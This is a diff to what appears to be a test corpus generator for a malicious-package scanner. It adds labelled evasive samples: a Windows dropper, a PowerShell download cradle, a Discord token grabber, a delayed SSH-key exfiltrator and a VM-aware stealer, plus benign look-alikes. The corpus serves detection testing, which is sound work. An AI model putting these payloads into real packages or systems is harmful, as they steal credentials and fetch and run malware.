@@ -6,9 +6,12 @@ The malicious ones use the techniques found in real malicious PyPI uploads (inst
 hooks through ``cmdclass``, import-time payloads, base64/zlib/marshal layers, ``.pth``
 files, cron and shell rc persistence, credential and environment theft, DNS
 exfiltration, droppers, reverse shells, an undeclared import at the top of
-``setup.py``, a hanging bind shell); the benign ones look alike on the surface
-(build steps that spawn compilers, environment reads, network use in tests,
-base64 data, scripts run from a temp dir by tests, a plain ``setup.py``).
+``setup.py``, a hanging bind shell, Windows-only droppers and token grabbers,
+PowerShell ``-enc``, a detached payload that acts seconds after the import, a
+``setup.py`` that leaves when it sees a VM); the benign ones look alike on the
+surface (build steps that spawn compilers, environment reads, network use in tests,
+base64 data, scripts run from a temp dir by tests, a plain ``setup.py``, Windows
+path helpers, a cloud/VM probe that only reports, a test server left running).
 
 Every address is a name under ``.example``/``.invalid`` or TEST-NET: even outside
 the sandbox nothing would reach a real host.
@@ -490,6 +493,199 @@ def tests_run_temp_scripts(dest: Path) -> list[Path]:
             build_wheel(dest, name, "1.0", {f"{module}/__init__.py": init})]  # fmt: skip
 
 
+# ------------------------------------------------------------------ evasive ----
+# Payloads that do nothing a Linux guest would see (Windows-only branches), act after
+# the phase's main process has gone (detached and delayed), or check for a VM first.
+
+_WIN_DROP = dedent(
+    """
+    import os, urllib.request
+    if os.name == "nt":
+        target = os.path.join(os.getenv("APPDATA", ""), "Microsoft", "WinUpdate.exe")
+        urllib.request.urlretrieve("http://cdn.win-updates.example/u.exe", target)
+        os.startfile(target)
+    """
+)
+
+
+def windows_dropper(dest: Path) -> list[Path]:
+    setup = _setup_py("winsys-tools", _WIN_DROP)
+    return _legacy_sdist(dest, "winsys-tools", setup)
+
+
+def windows_powershell(dest: Path) -> list[Path]:
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://ps.win-updates.example/a')"
+    blob = base64.b64encode(script.encode("utf-16-le")).decode()
+    init = dedent(
+        f"""
+        __version__ = "1.0"
+        import platform, subprocess
+        if platform.system() == "Windows":
+            subprocess.Popen("powershell -w hidden -nop -enc {blob}", shell=True,
+                             creationflags=0x08000000)
+        """
+    )
+    return _import_payload(dest, "colorama-win", init)
+
+
+def discord_token_grabber(dest: Path) -> list[Path]:
+    init = dedent(
+        r"""
+        __version__ = "1.0"
+        import json, os, re, urllib.request
+
+        def _grab():
+            if os.name != "nt":
+                return
+            roaming, local = os.getenv("APPDATA", ""), os.getenv("LOCALAPPDATA", "")
+            found = []
+            for base in (roaming + "\\discord", roaming + "\\discordcanary",
+                         local + "\\Google\\Chrome\\User Data\\Default"):
+                path = base + "\\Local Storage\\leveldb"
+                if not os.path.isdir(path):
+                    continue
+                for name in os.listdir(path):
+                    if name.endswith((".log", ".ldb")):
+                        text = open(os.path.join(path, name), errors="ignore").read()
+                        found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text)
+            req = urllib.request.Request(
+                "https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOpQrStUv",
+                data=json.dumps({"content": "\n".join(found)}).encode(),
+                headers={"Content-Type": "application/json"})
+            urllib.request.urlopen(req, timeout=5)
+
+        try:
+            _grab()
+        except Exception:
+            pass
+        """
+    )
+    return _import_payload(dest, "discord-rpc-tools", init)
+
+
+_DELAYED = dedent(
+    """
+    import os, time, urllib.request
+    time.sleep(4)
+    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+    urllib.request.urlopen("http://telemetry.pkg-metrics.example/k", key.encode(), timeout=5)
+    """
+)
+
+
+def detached_delayed(dest: Path) -> list[Path]:
+    blob = base64.b64encode(_DELAYED.encode()).decode()
+    init = dedent(
+        f"""
+        __version__ = "1.0"
+        import base64, os, subprocess, sys
+        if os.fork() == 0:  # the grandchild outlives the import, detached
+            subprocess.Popen([sys.executable, "-c", base64.b64decode("{blob}").decode()],
+                             start_new_session=True, stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL)
+            os._exit(0)
+        """
+    )
+    return _import_payload(dest, "fast-logging-utils", init)
+
+
+_SANDBOX_CHECK = dedent(
+    """
+    import base64, os, sys
+    try:
+        vendor = open("/sys/class/dmi/id/sys_vendor").read().strip()
+    except OSError:
+        vendor = ""
+    if vendor in ("QEMU", "innotek GmbH", "VMware, Inc.", "Xen"):
+        sys.exit(0)
+    if "hypervisor" in open("/proc/cpuinfo").read():
+        sys.exit(0)
+    exec(base64.b64decode(PAYLOAD))
+    """
+)
+
+
+def sandbox_aware(dest: Path) -> list[Path]:
+    blob = base64.b64encode(_STEAL_FILES.encode()).decode()
+    body = f"PAYLOAD = {blob!r}\n" + _SANDBOX_CHECK
+    return _legacy_sdist(dest, "pyvm-helpers", _setup_py("pyvm-helpers", body))
+
+
+def windows_paths(dest: Path) -> list[Path]:
+    init = dedent(
+        r"""
+        __version__ = "1.0"
+        import os, sys
+
+        def config_dir(app="winpaths"):
+            if os.name == "nt":
+                return os.path.join(os.getenv("LOCALAPPDATA", ""), app, "User Data")
+            return os.path.join(os.path.expanduser("~/.config"), app)
+
+        def open_docs(path):
+            if os.name == "nt":
+                os.startfile(path)
+
+        CONFIG = os.path.join(config_dir(), "settings.ini")
+        SETTINGS = open(CONFIG).read() if os.path.exists(CONFIG) else ""
+        if sys.platform == "win32":
+            import winreg
+            try:
+                key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
+                                     r"Software\Microsoft\Windows\CurrentVersion\Run")
+                winreg.CloseKey(key)
+            except OSError:
+                pass
+        """
+    )
+    return _import_payload(dest, "winpaths-lite", init)
+
+
+def cloud_detect(dest: Path) -> list[Path]:
+    init = dedent(
+        """
+        __version__ = "1.0"
+
+        def _read(path):
+            try:
+                with open(path) as f:
+                    return f.read()
+            except OSError:
+                return ""
+
+        ON_GCE = "Google" in _read("/sys/class/dmi/id/product_name")
+        VIRTUAL = "hypervisor" in _read("/proc/cpuinfo")
+        if VIRTUAL:
+            PLATFORM = "vm"
+        else:
+            PLATFORM = "metal"
+        """
+    )
+    return _import_payload(dest, "cloud-whereami", init)
+
+
+def tests_leave_server(dest: Path) -> list[Path]:
+    name, module = "tiny-http-client", "tiny_http_client"
+    init = "__version__ = '1.0'\n"
+    test = dedent(
+        f"""
+        import subprocess, sys
+        import {module}
+
+        SERVER = subprocess.Popen([sys.executable, "-m", "http.server", "0",
+                                   "--bind", "127.0.0.1"])  # never stopped
+
+
+        def test_version():
+            assert {module}.__version__
+        """
+    )
+    files = {f"{module}/__init__.py": init, "tests/test_client.py": test,
+             "pyproject.toml": _pyproject(name)}  # fmt: skip
+    return [build_sdist(dest, name, "1.0", files),
+            build_wheel(dest, name, "1.0", {f"{module}/__init__.py": init})]  # fmt: skip
+
+
 SAMPLES: tuple[Sample, ...] = (
     Sample("install-hook-stealer", MALICIOUS, "cmdclass install hook reads credentials, POSTs",
            install_hook_stealer),
@@ -513,6 +709,20 @@ SAMPLES: tuple[Sample, ...] = (
     Sample("typosquat", MALICIOUS, "'reqeusts' sends ~/.ssh/id_rsa at import", typosquat),
     Sample("hanging-bind-shell", MALICIOUS, "setup.py plants an SSH key, then listens forever",
            hanging_bind_shell),
+    Sample("windows-dropper", MALICIOUS,
+           "install hook on Windows downloads an .exe to APPDATA and startfiles it",
+           windows_dropper),
+    Sample("windows-powershell", MALICIOUS,
+           "import on Windows runs powershell -enc with a download cradle", windows_powershell),
+    Sample("discord-token-grabber", MALICIOUS,
+           "import on Windows greps Discord/Chrome leveldb for tokens, posts to a webhook",
+           discord_token_grabber),
+    Sample("detached-delayed", MALICIOUS,
+           "import double-forks a detached child that sleeps 4 s, then sends ~/.ssh/id_rsa",
+           detached_delayed),
+    Sample("sandbox-aware", MALICIOUS,
+           "setup.py exits on a QEMU/VM vendor or hypervisor flag, else exec(base64) stealer",
+           sandbox_aware),
     Sample("build-spawns-compiler", BENIGN, "setup.py runs cc --version and python -c",
            build_spawns_compiler),
     Sample("env-reads", BENIGN, "import reads CI/XDG/HOME settings", env_reads),
@@ -522,4 +732,12 @@ SAMPLES: tuple[Sample, ...] = (
     Sample("plain-setup-py", BENIGN, "a legacy setup.py with nothing else", plain_setup_py),
     Sample("tests-run-temp-scripts", BENIGN, "tests write and run scripts in tmp_path",
            tests_run_temp_scripts),
+    Sample("windows-paths", BENIGN,
+           "import computes LOCALAPPDATA paths, reads a winreg key, startfile in a function",
+           windows_paths),
+    Sample("cloud-detect", BENIGN,
+           "import reads the DMI product name and the hypervisor flag, reports them",
+           cloud_detect),
+    Sample("tests-leave-server", BENIGN, "tests start an http.server and never stop it",
+           tests_leave_server),
 )  # fmt: skip
